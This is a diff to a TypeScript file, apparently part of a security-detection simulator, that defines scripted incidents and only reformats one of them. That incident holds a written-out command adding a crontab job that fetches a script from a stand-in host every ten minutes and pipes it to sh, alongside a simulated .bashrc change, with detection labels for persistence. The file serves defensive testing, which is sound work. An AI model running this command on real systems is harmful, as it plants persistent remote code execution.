@@ -46,7 +46,10 @@ export const INCIDENTS = {
     summary: 'a job and a login file bring a script back',
     detections: ['persistence-by-command', 'login-file-changed', 'persistence-file-written'],
     play: (desk) => {
-      desk.run('(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://widget-sdk.example/c | sh") | crontab -', 0);
+      desk.run(
+        '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://widget-sdk.example/c | sh") | crontab -',
+        0,
+      );
       desk.file('update', `${desk.place.person.home}/.bashrc`, 61);
     },
   },
@@ -86,7 +89,7 @@ export const INCIDENTS = {
       desk.run('npm publish --access public', 0);
     },
   },
-} as const satisfies Readonly<Record<string, Incident>>; // prettier-ignore
+} as const satisfies Readonly<Record<string, Incident>>;
 
 export type IncidentKind = keyof typeof INCIDENTS;
 export const INCIDENT_KINDS = Object.keys(INCIDENTS) as readonly IncidentKind[];
